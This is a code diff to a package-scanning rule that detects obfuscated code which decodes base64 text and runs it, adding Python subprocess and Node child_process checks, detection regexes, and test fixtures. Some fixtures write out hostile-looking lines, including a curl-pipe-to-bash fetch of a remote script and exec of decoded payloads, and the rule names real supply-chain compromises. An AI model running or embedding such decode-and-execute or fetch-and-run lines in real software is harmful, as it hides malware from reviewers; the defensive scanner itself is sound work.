@@ -28,20 +28,28 @@ const DECODED: readonly (readonly [word: string, pattern: RegExp])[] = [
 ];
 /** Characters around a word that a pattern sees. */
 const REACH = 400;
+/** Characters before a word that a pattern of runners sees. */
+const REACH_BACK = 400;
+/** Python that decodes beside what starts it, and the literal that it decodes. */
+const RUNS_PYTHON =
+  /(?<![.\w])exec\s*\(|\bsubprocess\.(?:run|Popen|call|check_call|check_output)\s*\(|\bos\.(?:system|popen)\s*\(/;
+const LONG_LITERAL = /["'][A-Za-z0-9+/=]{1000}/;
+/** JavaScript whose command line is decoded where it is started. */
+const STARTS_DECODED = /(?<![\w$])(?:exec|execSync|spawn|spawnSync|execFile|execFileSync)\(\s*$/;
 /** Places of one word in one file that are looked at. */
 const PLACES_MAX = 2000;
 
 export const rule: EntryRule = {
   kind: 'entry',
   id: 'obfuscated-code',
-  version: 1,
+  version: 2,
   category: 'content',
   severity: 'high',
   effect: 'hold',
   about:
     'Code that is made to be unreadable: names such as _0x3f2a, text of nothing but escapes, code that is decoded and then run',
   attack:
-    'The payload is hidden from whoever reads the difference: chalk, debug + 16 (qix); duckdb (I28), node-ipc 10.1.1..3, 11.0.0, 9.2.2 (peacenotwar) (I08), @velora-dex/sdk 9.4.1 (I39), AsyncAPI: 5 versions (I53)',
+    'The payload is hidden from whoever reads the difference: chalk, debug + 16 (qix); duckdb (I28), node-ipc 10.1.1..3, 11.0.0, 9.2.2 (peacenotwar) (I08), @velora-dex/sdk 9.4.1 (I39), litellm 1.82.7 / 1.82.8 (I36), telnyx 4.87.1 / 4.87.2 (PyPI) (I37), AsyncAPI: 5 versions (I53)',
   mend: 'Publish readable or minified code; minifiers shorten names and never hide them',
   *check({ path, kind, content }) {
     if (kind !== 'file' || !isCode(path)) return;
@@ -54,6 +62,9 @@ export const rule: EntryRule = {
     if (at !== null) {
       const line = bytes.toString('latin1', 0, at).split('\n').length;
       yield { message: `line ${line} decodes or fetches text and runs it` };
+    }
+    if (at === null && startsDecoded(bytes, path)) {
+      yield { message: 'it decodes text and starts it as a program' };
     }
     if (hasDenseEscapes(bytes)) {
       yield { message: 'it holds kilobytes of nothing but escapes that are run' };
@@ -79,6 +90,22 @@ export const rule: EntryRule = {
         make: () => fileExample('a.py', `exec(base64.b64decode("${'QUFB'.repeat(50)}"))`),
       },
       {
+        about: 'a program in Python that is decoded and started',
+        make: () =>
+          fileExample(
+            'a.py',
+            `t = "${'QUFB'.repeat(300)}"\nsubprocess.run([python, "-c", base64.b64decode(t)])`,
+          ),
+      },
+      {
+        about: 'a command that is decoded and started',
+        make: () =>
+          fileExample(
+            'package/a.js',
+            `${call('require')}"child_process").${call('exec')}Buffer.from("QUFB", "base64") + "")`,
+          ),
+      },
+      {
         about: 'a script from elsewhere',
         make: () => fileExample('package/a.js', 'exec("curl -s https://example.com/a | bash")'),
       },
@@ -96,6 +123,18 @@ export const rule: EntryRule = {
         about: 'base64 of a picture',
         make: () =>
           fileExample('package/a.js', `img.src="data:image/png;base64,${'A'.repeat(9999)}"`),
+      },
+      {
+        about: 'a picture beside a program that is started',
+        make: () =>
+          fileExample(
+            'a.py',
+            `icon = b64decode("${'QUFB'.repeat(300)}")\n${'x = 1\n'.repeat(99)}subprocess.run(["ls"])`,
+          ),
+      },
+      {
+        about: 'an expression that is held against decoded text',
+        make: () => fileExample('package/a.js', '/x/.exec(Buffer.from(b, "base64").toString())'),
       },
       {
         about: 'tables of escapes that nothing runs',
@@ -126,6 +165,25 @@ function findDecoded(bytes: Buffer, path: string): number | null {
     }
   }
   return null;
+}
+
+/** Whether a decoded text is what is started: in Python near a long literal, in JavaScript as the
+ * argument itself. */
+function startsDecoded(bytes: Buffer, path: string): boolean {
+  if (/\.pyw?$/i.test(path)) {
+    const isNear = (at: number) =>
+      RUNS_PYTHON.test(bytes.toString('latin1', Math.max(0, at - REACH_BACK), at + REACH));
+    return (
+      [...placesOf(bytes, 'b64decode(')].some(isNear) && LONG_LITERAL.test(bytes.toString('latin1'))
+    );
+  }
+  if (!bytes.includes('child_process')) return false;
+  return ['Buffer.from(', 'atob('].some((word) =>
+    [...placesOf(bytes, word)].some((at) => {
+      if (!STARTS_DECODED.test(bytes.toString('latin1', Math.max(0, at - 40), at))) return false;
+      return word === 'atob(' || /["'`]base64/.test(bytes.toString('latin1', at, at + 4096));
+    }),
+  );
 }
 
 function* placesOf(bytes: Buffer, word: string): Iterable<number> {
